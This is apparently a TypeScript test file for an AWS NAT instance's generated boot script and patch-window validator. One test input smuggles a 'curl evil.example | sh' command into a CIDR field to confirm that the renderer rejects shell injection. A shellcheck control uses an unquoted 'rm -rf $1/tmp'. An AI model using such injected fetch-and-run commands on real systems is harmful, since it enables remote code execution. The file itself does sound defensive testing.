// The NAT instance's boot script and patch window as rendered (pure logic), checked by bash and
// shellcheck. Its behaviour is exercised for real in nat-netns.test.ts.
import { strict as assert } from "assert";
import { spawnSync } from "child_process";
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import { NAT_BOOT_PATHS, NAT_PATCH_SCHEDULE, renderNatBootScript, validatePatchSchedule } from "../../components/nat-instance-software";

function hasTool(tool: string): boolean {
    return spawnSync("sh", ["-c", `command -v ${tool}`], { stdio: "ignore" }).status === 0;
}

/** Missing tools fail under CI, skip elsewhere (as tests/host/user-data.test.ts). */
function requireTools(ctx: Mocha.Context, ...tools: string[]): void {
    const missing = tools.filter((t) => !hasTool(t));
    if (missing.length === 0) return;
    const message = `missing tools [${missing.join(", ")}]: run \`bash .ci/setup-host-tools.sh\``;
    if (process.env.CI) throw new Error(`${message} (CI is set, so this fails instead of skipping)`);
    console.warn(`    skipped: ${message}`);
    ctx.skip();
}

describe("NAT instance boot script (rendered)", () => {
    let tmp: string;
    before(() => {
        tmp = fs.mkdtempSync(path.join(os.tmpdir(), "nat-boot-"));
    });
    after(() => fs.rmSync(tmp, { recursive: true, force: true }));

    const write = (name: string, text: string) => {
        const file = path.join(tmp, name);
        fs.writeFileSync(file, text);
        return file;
    };

    it("refuses a VPC CIDR that is not a plain IPv4 block, since it is pasted into the script", () => {
        for (const bad of ["10.0.0.0/16'; curl evil.example | sh; '", "10.0.0.1/16", "10.0.0.0", "10.0.0.0/33", ""]) {
            assert.throws(() => renderNatBootScript({ vpcCidr: bad }), /is not an IPv4 CIDR block/, bad);
        }
    });

    it("forwards and masquerades exactly the VPC CIDR it is given", () => {
        const script = renderNatBootScript({ vpcCidr: "172.16.0.0/12" });
        assert.match(script, /^readonly vpc_cidr='172\.16\.0\.0\/12'$/m);
        assert.ok(!script.includes("10.0.0.0"), "no other CIDR baked in");
    });

    it("defaults to the paths Amazon Linux 2023 reads at boot: iptables.service's /etc/sysconfig/iptables and a sysctl.d file", () => {
        const script = renderNatBootScript({ vpcCidr: "10.0.0.0/16" });
        // iptables.init start(): iptables-restore /etc/sysconfig/iptables (Fedora/RHEL iptables package).
        assert.strictEqual(NAT_BOOT_PATHS.rulesFile, "/etc/sysconfig/iptables");
        assert.match(NAT_BOOT_PATHS.sysctlFile, /^\/etc\/sysctl\.d\/[^/]+\.conf$/);
        assert.match(script, /^rules_file=\$\{NAT_RULES_FILE:-\/etc\/sysconfig\/iptables\}$/m);
        assert.match(script, /^sysctl_file=\$\{NAT_SYSCTL_FILE:-\/etc\/sysctl\.d\/90-nat\.conf\}$/m);
    });

    it("is valid bash (bash -n)", () => {
        const res = spawnSync("bash", ["-n", write("nat-boot.sh", renderNatBootScript({ vpcCidr: "10.0.0.0/16" }))], { encoding: "utf8" });
        assert.strictEqual(res.status, 0, res.stderr);
    });

    it("passes shellcheck at style severity", function () {
        requireTools(this, "shellcheck");
        const file = write("nat-boot-sc.sh", renderNatBootScript({ vpcCidr: "10.0.0.0/16" }));
        const res = spawnSync("shellcheck", ["--severity=style", "--norc", "--shell=bash", file], { encoding: "utf8" });
        assert.strictEqual(res.status, 0, `${res.stdout}${res.stderr}`);
        // Control: the same invocation does flag an unquoted expansion (SC2086).
        const control = spawnSync("shellcheck", ["--severity=style", "--norc", write("control.sh", "#!/bin/bash\nrm -rf $1/tmp\n")], { encoding: "utf8" });
        assert.strictEqual(control.status, 1);
        assert.match(control.stdout, /SC2086/);
    });
});

describe("NAT instance patch window", () => {
    it("the default is a weekly Systems Manager cron expression", () => {
        assert.strictEqual(validatePatchSchedule(NAT_PATCH_SCHEDULE), NAT_PATCH_SCHEDULE);
        assert.match(NAT_PATCH_SCHEDULE, /^cron\(\d+ \d+ \? \* (MON|TUE|WED|THU|FRI|SAT|SUN) \*\)$/);
    });

    it("refuses a rate expression (applyOnlyAtCronInterval does not support it) and a cron without six fields", () => {
        assert.throws(() => validatePatchSchedule("rate(7 days)"), /must be a cron\(\.\.\.\) expression with 6 fields/);
        assert.throws(() => validatePatchSchedule("cron(0 5 ? * SUN)"), /6 fields/);
        assert.throws(() => validatePatchSchedule("0 5 ? * SUN *"), /6 fields/);
    });
});
